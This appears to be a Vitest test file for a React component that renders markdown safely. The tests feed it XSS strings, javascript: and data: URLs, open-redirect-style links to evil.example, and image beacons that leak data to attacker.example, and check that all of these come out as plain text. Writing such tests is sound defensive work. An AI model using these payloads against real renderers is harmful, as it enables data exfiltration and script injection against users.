import { render, screen } from '@testing-library/react';
import { createMemoryRouter, RouterProvider } from 'react-router';
import { describe, expect, it } from 'vitest';
import { parseSafeMarkdown, SafeMarkdown } from './safe-markdown';

function renderMarkdown(source: string) {
  const router = createMemoryRouter([
    {
      path: '*',
      element: (
        <p data-testid="answer">
          <SafeMarkdown source={source} />
        </p>
      ),
    },
  ]);
  render(<RouterProvider router={router} />);
  return screen.getByTestId('answer');
}

describe('parseSafeMarkdown', () => {
  it.each([
    ['[Scammed? page](/scammed)', { kind: 'page', text: 'Scammed? page', path: '/scammed' }],
    ['[report](/domain/example.com)', { kind: 'page', text: 'report', path: '/domain/example.com' }],
    [
      '[docs](https://developer.mozilla.org/)',
      { kind: 'external', text: 'docs', href: 'https://developer.mozilla.org/' },
    ],
    ['[x](http://plain.example/)', { kind: 'text', text: 'x' }],
    ['[x](javascript:alert%281%29)', { kind: 'text', text: 'x' }],
    ['[x](data:text/html,hi)', { kind: 'text', text: 'x' }],
    ['[x](//evil.example/path)', { kind: 'text', text: 'x' }],
    ['[x](/\\evil.example)', { kind: 'text', text: 'x' }],
    ['![tracking pixel](https://attacker.example/leak?d=1)', { kind: 'text', text: 'tracking pixel' }],
  ])('reads %j as %j', (source, part) => {
    expect(parseSafeMarkdown(source)).toEqual([part]);
  });

  it('keeps the text around links', () => {
    expect(parseSafeMarkdown('See the [home page](/) now.')).toEqual([
      { kind: 'text', text: 'See the ' },
      { kind: 'page', text: 'home page', path: '/' },
      { kind: 'text', text: ' now.' },
    ]);
  });
});

describe('SafeMarkdown', () => {
  it('renders our pages as in-app links and https links as new-tab links', () => {
    const answer = renderMarkdown('Read [our guide](/scammed) or [MDN](https://developer.mozilla.org/).');
    const links = answer.querySelectorAll('a');
    expect(links[0]).toHaveAttribute('href', '/scammed');
    expect(links[0]).not.toHaveAttribute('target');
    expect(links[1]).toHaveAttribute('href', 'https://developer.mozilla.org/');
    expect(links[1]).toHaveAttribute('target', '_blank');
    expect(links[1]).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('never renders an image, raw HTML or a script link', () => {
    const answer = renderMarkdown(
      '![x](https://attacker.example/leak?d=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1))',
    );
    expect(answer.querySelector('img')).toBeNull();
    expect(answer.querySelector('a')).toBeNull();
    expect(answer).toHaveTextContent('x <img src=x onerror=alert(1)> click');
  });
});
